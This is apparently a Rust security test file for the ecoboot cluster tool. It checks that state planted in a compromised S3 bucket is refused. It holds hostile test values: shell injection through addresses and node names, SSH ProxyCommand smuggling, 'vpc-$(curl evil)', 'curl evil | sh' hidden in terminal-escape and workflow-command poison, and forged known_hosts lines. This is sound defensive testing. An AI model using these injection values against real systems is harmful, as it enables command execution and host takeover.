//! The state bucket is not a trust root (#25): an attacker who can write S3 (the journal, the
//! lock, backups) but not call EC2 tries each finding of the review against the real binary.
//! Every hostile input must be refused, or be harmless; the count of tried inputs is printed.

mod common;

use std::path::{Path, PathBuf};
use std::time::Duration;

use common::aws::AwsSandbox;
use common::{config_with_key, ecoboot, run};

/// A journal for cluster `sesacthon` whose outputs are `outputs` and stage records `stages`.
fn plant_journal(state: &Path, outputs: serde_json::Value, stages: serde_json::Value) -> PathBuf {
    let dir = state.join("sesacthon");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::set_permissions(&dir, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
    let journal = serde_json::json!({
        "schema": 1,
        "cluster": "sesacthon",
        "config_digest": "",
        "stages": stages,
        "outputs": outputs,
    });
    let path = dir.join("state.json");
    std::fs::write(&path, serde_json::to_vec_pretty(&journal).unwrap()).unwrap();
    path
}

/// A well-formed instances record for the control plane with `field` replaced by `value`.
fn instances_with(field: &str, value: &str) -> serde_json::Value {
    let mut node = serde_json::json!({
        "instance_id": "i-0123456789abcdef0",
        "az": "ap-northeast-2a",
        "private_ip": "10.0.1.10",
        "public_ip": "54.180.0.10",
        "instance_type": "t3.large",
        "state": "running",
    });
    node[field] = serde_json::Value::String(value.to_string());
    serde_json::json!({"instances": {"ami_id": "ami-0123456789abcdef0", "nodes": {"k8s-master": node}}})
}

/// An AWS sandbox and a config of the shipped topology with its own state directory.
struct Provisioned {
    sb: AwsSandbox,
    _dir: tempfile::TempDir,
    state: PathBuf,
    config: PathBuf,
}

impl Provisioned {
    fn new() -> Provisioned {
        let sb = AwsSandbox::start();
        let dir = tempfile::tempdir().unwrap();
        let state = dir.path().join("state");
        let config = config_with_key(dir.path());
        Provisioned {
            sb,
            _dir: dir,
            state,
            config,
        }
    }

    /// ecoboot against the sandbox: (exit code, stdout, stderr).
    fn eco(&self, args: &[&str]) -> (i32, String, String) {
        let mut cmd = ecoboot(&self.state);
        self.sb.env(&mut cmd);
        run(cmd.arg("-c").arg(&self.config).args(args))
    }
}

#[test]
fn a_tampered_journal_is_refused_whole_before_any_command_acts() {
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("state");
    let config = config_with_key(dir.path());
    let canary = dir.path().join("INJECTED");
    let inject = format!("10.0.1.10:2380 ; touch {} ; #", canary.display());
    let smuggle = "1.2.3.4 ansible_ssh_common_args='-o ProxyCommand=\"touch /tmp/x\"'";
    let hostile: Vec<(serde_json::Value, &str)> = vec![
        // Finding 1: root commands through the restore script's peer address.
        (instances_with("private_ip", &inject), "private_ip"),
        // Finding 2: SSH redirected through a journal address with a port.
        (
            instances_with("public_ip", "203.0.113.66:2222"),
            "public_ip",
        ),
        // Finding 3: options smuggled into hosts.ini.
        (instances_with("ssh", smuggle), "ssh"),
        (
            instances_with("instance_id", "i-0abc; aws ec2 terminate"),
            "instance_id",
        ),
        (instances_with("az", "a\u{1b}]0;pwned\u{7}"), "az"),
        (
            serde_json::json!({"instances": {"ami_id": "ami-0123", "nodes": {"k8s-master; rm -rf /": {}}}}),
            "not a node name",
        ),
        (
            serde_json::json!({"network": {"vpc_id": "vpc-$(curl evil)", "subnets": {}}}),
            "vpc_id",
        ),
        (
            serde_json::json!({"prune": {"nodes": {"old-1": {"node": "old-1", "instance_id": "i-0123456789abcdef0", "address": "--proxy=evil", "phase": "reset"}}}}),
            "address",
        ),
    ];
    let commands: &[&[&str]] = &[
        &["status"],
        &["inventory"],
        &[
            "restore",
            "--from",
            "s3://my-backups/ecoboot/sesacthon/backups/20261205T010203Z-rev9.tar.gz",
            "--yes",
        ],
        &["up", "--to", "network"],
    ];
    let mut tried = 0;
    for (outputs, names) in &hostile {
        let journal = plant_journal(&state, outputs.clone(), serde_json::json!({}));
        let before = std::fs::read(&journal).unwrap();
        for args in commands {
            tried += 1;
            let (code, out, err) = run(ecoboot(&state).arg("-c").arg(&config).args(*args));
            assert_eq!(code, 4, "{args:?} with {outputs}: {out}{err}");
            assert!(err.contains(names), "{args:?} names the value: {err}");
            assert!(err.contains("outside their grammar"), "{err}");
            assert!(
                !err.contains('\u{1b}'),
                "no escape reaches the terminal: {err:?}"
            );
            assert_eq!(
                std::fs::read(&journal).unwrap(),
                before,
                "the journal is left as it is"
            );
        }
    }
    assert!(!canary.exists(), "nothing ran");
    assert!(
        !state.join("sesacthon/hosts.ini").exists(),
        "no inventory was written from it"
    );
    println!("hostile journals: {tried} command runs tried, {tried} refused with exit 4");
}

#[test]
fn status_never_prints_escapes_bidi_or_workflow_commands_from_the_journal() {
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("state");
    let config = config_with_key(dir.path());
    let poison = "boom\u{1b}]52;c;ZXZpbA==\u{7}\u{1b}]0;title\u{7}\u{202e}gpj.exe ##[command]curl evil | sh\n::add-mask::x\r\n::error::forged";
    plant_journal(
        &state,
        serde_json::json!({}),
        serde_json::json!({"network": {"status": "failed", "attempts": 1, "last_error": poison}}),
    );
    for github in [false, true] {
        let mut cmd = ecoboot(&state);
        if github {
            cmd.env("GITHUB_ACTIONS", "true");
        }
        let (_, out, err) = run(cmd.arg("-c").arg(&config).arg("status"));
        let all = format!("{out}{err}");
        assert!(all.contains("boom"), "the error is still shown: {all}");
        for bad in ['\u{1b}', '\u{7}', '\u{202e}', '\r'] {
            assert!(
                !all.contains(bad),
                "{bad:?} reached the output (github: {github}): {all:?}"
            );
        }
        if github {
            assert!(!out.contains("##[command]"), "{out}");
            // Every line that looks like a workflow command sits inside a stop-commands fence.
            let mut fenced = None::<String>;
            for line in out.lines() {
                if let Some(t) = line.strip_prefix("::stop-commands::") {
                    fenced = Some(format!("::{t}::"));
                } else if fenced.as_deref() == Some(line) {
                    fenced = None;
                } else if fenced.is_none() {
                    assert!(
                        !line.starts_with("::add-mask") && !line.starts_with("::error"),
                        "an unfenced command: {line}"
                    );
                }
            }
        }
    }
}

#[test]
fn prune_never_terminates_an_instance_that_is_not_the_clusters() {
    let w = Provisioned::new();
    let (sb, state) = (&w.sb, &w.state);
    let eco = |args: &[&str]| w.eco(args);
    let (code, _, err) = eco(&["up", "--to", "instances"]);
    assert_eq!(code, 0, "{err}");
    // Someone else's database, untagged, in the same account.
    let amis = sb.boto("ec2", "describe_images(Owners=['099720109477'])");
    let ami = amis["Images"][0]["ImageId"].as_str().unwrap().to_string();
    let launched = sb.boto(
        "ec2",
        &format!("run_instances(ImageId='{ami}', InstanceType='t3.micro', MinCount=1, MaxCount=1, TagSpecifications=[{{'ResourceType': 'instance', 'Tags': [{{'Key': 'Name', 'Value': 'unrelated-prod-db'}}]}}])"),
    );
    let victim = launched["Instances"][0]["InstanceId"]
        .as_str()
        .unwrap()
        .to_string();
    // The attacker plants a half-finished prune of a node that never existed, naming it.
    let path = state.join("sesacthon/state.json");
    let mut journal: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    journal["outputs"]["prune"] = serde_json::json!({"nodes": {"old-db": {
        "node": "old-db", "instance_id": victim, "node_object": false, "address": "",
        "control_plane": false, "infrastructure": false, "phase": "reset"}}});
    std::fs::write(&path, serde_json::to_vec_pretty(&journal).unwrap()).unwrap();

    let (code, out, err) = eco(&["plan", "--detail"]);
    assert!(
        out.contains(&format!("terminate {victim}")),
        "the plan names the instance id: {out}{err} ({code})"
    );
    let (code, out, err) = eco(&["up", "--to", "instances", "--prune", "--yes"]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        err.contains(&format!("refused to terminate {victim}")),
        "{err}"
    );
    let state_now = sb.boto(
        "ec2",
        &format!("describe_instances(InstanceIds=['{victim}'])"),
    );
    assert_eq!(
        state_now["Reservations"][0]["Instances"][0]["State"]["Name"], "running",
        "the foreign instance lives"
    );
    let (code, _, err) = eco(&["down", "--yes"]);
    assert_eq!(code, 0, "{err}");
}

const STATE: &str = "s3://ecoboot-state/teams/hostile";

fn remote(sb: &AwsSandbox, dir: &Path, config: &Path) -> std::process::Command {
    let mut cmd = ecoboot(&dir.join("state"));
    sb.env(&mut cmd);
    cmd.env("ECOBOOT_STATE", STATE).arg("-c").arg(config);
    cmd
}

fn lock_held_by(sb: &AwsSandbox, dir: &Path, config: &Path, pid: u32) -> bool {
    let (_, out, _) = run(remote(sb, dir, config).args(["state", "show"]));
    out.lines()
        .any(|l| l.starts_with("lock: ") && l.contains(&format!("pid {pid}")))
}

fn signal(pid: u32, sig: &str) {
    let ok = std::process::Command::new("kill")
        .args([sig, &pid.to_string()])
        .status()
        .unwrap()
        .success();
    assert!(ok, "kill {sig} {pid}");
}

#[test]
fn a_run_that_loses_its_lock_stops_and_a_skewed_clock_steals_nothing() {
    let sb = AwsSandbox::start();
    let dir = tempfile::tempdir().unwrap();
    let config = config_with_key(dir.path());
    let (code, _, err) = run(remote(&sb, dir.path(), &config).args(["state", "init"]));
    assert_eq!(code, 0, "{err}");

    // A holder with a 5 s lease, slowed inside its first stage, is stopped (SIGSTOP).
    sb.faults(r#"{"delay": {"DescribeVpcs": 12}}"#);
    let holder = remote(&sb, dir.path(), &config)
        .env("ECOBOOT_LOCK_LEASE_SECONDS", "5")
        .args(["up", "--to", "network"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let pid = holder.id();
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    while !lock_held_by(&sb, dir.path(), &config, pid) {
        assert!(std::time::Instant::now() < deadline, "no lock appeared");
        std::thread::sleep(Duration::from_millis(100));
    }

    // Stealers run elsewhere (another runner): their own local state directory.
    let elsewhere = tempfile::tempdir().unwrap();
    // A clock one hour ahead (libfaketime) thinks every lease expired: it must still watch
    // the lock's ETag for a whole lease, see the live holder renew, and take nothing.
    if let Some(faketime) = which("faketime") {
        let mut cmd = std::process::Command::new(faketime);
        cmd.args(["-f", "+1h"]).arg(env!("CARGO_BIN_EXE_ecoboot"));
        let probe = remote(&sb, elsewhere.path(), &config);
        for (k, v) in probe.get_envs() {
            match v {
                Some(v) => cmd.env(k, v),
                None => cmd.env_remove(k),
            };
        }
        let args: Vec<_> = probe.get_args().map(|a| a.to_owned()).collect();
        let (code, _, err) =
            run(cmd
                .args(&args)
                .args(["--steal-expired-lock", "up", "--to", "network"]));
        assert_eq!(
            code, 3,
            "a live lock is not stolen by a skewed clock: {err}"
        );
        assert!(err.contains("it is alive"), "{err}");
    } else {
        println!("faketime not installed: the skewed-clock half was skipped");
    }

    signal(pid, "-STOP");
    sb.faults("{}");
    // The stopped holder renews nothing: once its lease ran out by the clock, the stealer
    // still watches one whole lease of unchanged ETag, then takes over.
    std::thread::sleep(Duration::from_secs(6));
    let (code, _, err) = run(remote(&sb, elsewhere.path(), &config).args([
        "--steal-expired-lock",
        "up",
        "--to",
        "network",
    ]));
    signal(pid, "-CONT");
    let out = holder.wait_with_output().unwrap();
    let held_err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(code, 0, "the stealer finished: {err}");
    assert_eq!(
        out.status.code(),
        Some(3),
        "the resumed holder stops with the lock error: {held_err}"
    );
    assert!(held_err.contains("lost the state lock"), "{held_err}");
    let (_, show, _) = run(remote(&sb, dir.path(), &config).args(["state", "show"]));
    assert!(show.contains("lock: free"), "{show}");
    let (code, _, err) = run(remote(&sb, dir.path(), &config).args(["down", "--yes"]));
    assert_eq!(code, 0, "{err}");
}

fn which(tool: &str) -> Option<PathBuf> {
    std::env::var_os("PATH")?
        .to_str()?
        .split(':')
        .map(|d| Path::new(d).join(tool))
        .find(|p| p.is_file())
}

#[test]
fn ssh_open_to_the_world_needs_allow_world_and_then_every_run_warns() {
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("state");
    let config = config_with_key(dir.path());
    let text = std::fs::read_to_string(&config).unwrap();
    let open = text.replace(
        "allowedSshCidrs: [203.0.113.7/32]",
        "allowedSshCidrs: [0.0.0.0/1, 128.0.0.0/1]",
    );
    assert_ne!(open, text);
    std::fs::write(&config, &open).unwrap();
    let (code, _, err) = run(ecoboot(&state).arg("-c").arg(&config).arg("plan"));
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("that is the whole internet"), "{err}");
    std::fs::write(
        &config,
        open.replace(
            "allowedSshCidrs: [0.0.0.0/1, 128.0.0.0/1]",
            "allowedSshCidrs: [0.0.0.0/1, 128.0.0.0/1]\n    allowWorld: true",
        ),
    )
    .unwrap();
    let (code, out, err) = run(ecoboot(&state).arg("-c").arg(&config).arg("plan"));
    assert_ne!(code, 2, "accepted with allowWorld: {err}");
    assert!(
        format!("{out}{err}").contains("SSH (22) is open to the whole internet"),
        "{out}{err}"
    );
}

#[test]
fn addresses_come_from_ec2_not_from_a_journal_that_points_elsewhere() {
    let w = Provisioned::new();
    let (state, config) = (&w.state, &w.config);
    let eco = |args: &[&str]| w.eco(args);
    let (code, _, err) = eco(&["up", "--to", "instances"]);
    assert_eq!(code, 0, "{err}");
    // Real AWS: nodes have no configured address, so ecoboot would connect to what it
    // records. Nothing here connects anywhere: `inventory` only writes the addresses down.
    let text = std::fs::read_to_string(config).unwrap();
    let without: String = text
        .lines()
        .filter(|l| !l.trim_start().starts_with("address: "))
        .map(|l| format!("{l}\n"))
        .collect();
    std::fs::write(config, without).unwrap();
    let path = state.join("sesacthon/state.json");
    let mut journal: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    let cp = &mut journal["outputs"]["instances"]["nodes"]["k8s-master"];
    let real = cp["public_ip"].as_str().unwrap().to_string();
    cp["public_ip"] = "203.0.113.66".into();
    cp["instance_id"] = "i-0aaaaaaaaaaaaaaaa".into();
    std::fs::write(&path, serde_json::to_vec_pretty(&journal).unwrap()).unwrap();
    let (code, out, err) = eco(&["inventory"]);
    assert_eq!(code, 0, "{err}");
    let line = out
        .lines()
        .find(|l| l.starts_with("k8s-master "))
        .expect("the control plane's line");
    assert!(
        line.contains(&format!("ansible_host={real}")) && !line.contains("203.0.113.66"),
        "EC2's address, not the journal's: {line}"
    );
    assert!(!line.contains("i-0aaaaaaaaaaaaaaaa"), "{line}");
    let (code, _, err) = eco(&["down", "--yes"]);
    assert_eq!(code, 0, "{err}");
}

#[test]
fn known_hosts_from_the_bucket_keeps_only_plain_key_lines() {
    let sb = AwsSandbox::start();
    let dir = tempfile::tempdir().unwrap();
    let config = config_with_key(dir.path());
    let (code, _, err) = run(remote(&sb, dir.path(), &config).args(["state", "init"]));
    assert_eq!(code, 0, "{err}");
    let planted = "127.0.1.1 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOk\n@cert-authority * ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil\n* ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil\n@revoked 127.0.1.2 ssh-ed25519 AAAA\n127.0.1.3 ssh-ed25519 AAAA command=\"touch /tmp/x\"\n";
    sb.boto(
        "s3",
        &format!(
            "put_object(Bucket='ecoboot-state', Key='teams/hostile/sesacthon/known_hosts', Body={planted:?}.encode())"
        ),
    );
    let (code, out, err) = run(remote(&sb, dir.path(), &config).args(["state", "pull"]));
    assert_eq!(code, 0, "{out}{err}");
    let known = std::fs::read_to_string(dir.path().join("state/sesacthon/known_hosts")).unwrap();
    assert_eq!(
        known, "127.0.1.1 ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOk\n",
        "{known}"
    );
}

#[test]
fn backup_credentials_are_add_only_on_the_control_planes_own_role_at_hop_limit_1() {
    let sb = AwsSandbox::start();
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("state");
    let config = config_with_key(dir.path());
    // The control plane without the AWS controllers, with a backup schedule.
    let text = std::fs::read_to_string(&config).unwrap();
    let text = text
        .replacen(
            "      awsControllers: true      # runs the load balancer / EBS CSI controllers: controller role, IMDS hop 2\n",
            "",
            1,
        )
        .replacen(
            "\nspec:\n",
            "\nspec:\n  backup:\n    to: s3://my-backups/ecoboot\n    schedule: daily\n",
            1,
        );
    std::fs::write(&config, text).unwrap();
    let eco = |args: &[&str]| {
        let mut cmd = ecoboot(&state);
        sb.env(&mut cmd);
        run(cmd.arg("-c").arg(&config).args(args))
    };
    let (code, _, err) = eco(&["up", "--to", "instances"]);
    assert_eq!(code, 0, "{err}");
    let cp_role = "ecoboot-sesacthon-control-plane";
    let inline = sb.boto("iam", &format!("list_role_policies(RoleName='{cp_role}')"));
    assert_eq!(
        inline["PolicyNames"],
        serde_json::json!(["ecoboot-backup"]),
        "{inline}"
    );
    let doc = sb.boto(
        "iam",
        &format!("get_role_policy(RoleName='{cp_role}', PolicyName='ecoboot-backup')"),
    );
    let actions = doc["PolicyDocument"].to_string();
    assert!(actions.contains("s3:PutObject"), "{actions}");
    for never in ["DeleteObject", "ListBucket", "GetObject"] {
        assert!(!actions.contains(never), "add-only: {actions}");
    }
    let node = sb.boto(
        "iam",
        "list_role_policies(RoleName='ecoboot-sesacthon-node')",
    );
    assert!(
        !node["PolicyNames"].to_string().contains("ecoboot-backup"),
        "the role every node wears has no backup access: {node}"
    );
    let found = sb.boto(
        "ec2",
        "describe_instances(Filters=[{'Name': 'tag:ecoboot.io/node', 'Values': ['k8s-master']}, {'Name': 'instance-state-name', 'Values': ['running']}])",
    );
    let cp = &found["Reservations"][0]["Instances"][0];
    assert!(
        cp["IamInstanceProfile"]["Arn"]
            .as_str()
            .unwrap()
            .ends_with(cp_role),
        "{cp}"
    );
    assert_eq!(cp["MetadataOptions"]["HttpPutResponseHopLimit"], 1, "{cp}");
    let (code, _, err) = eco(&["down", "--yes"]);
    assert_eq!(code, 0, "{err}");
    let roles = sb.boto("iam", "list_roles()");
    assert!(
        !roles.to_string().contains(cp_role),
        "down deletes it: {roles}"
    );
}
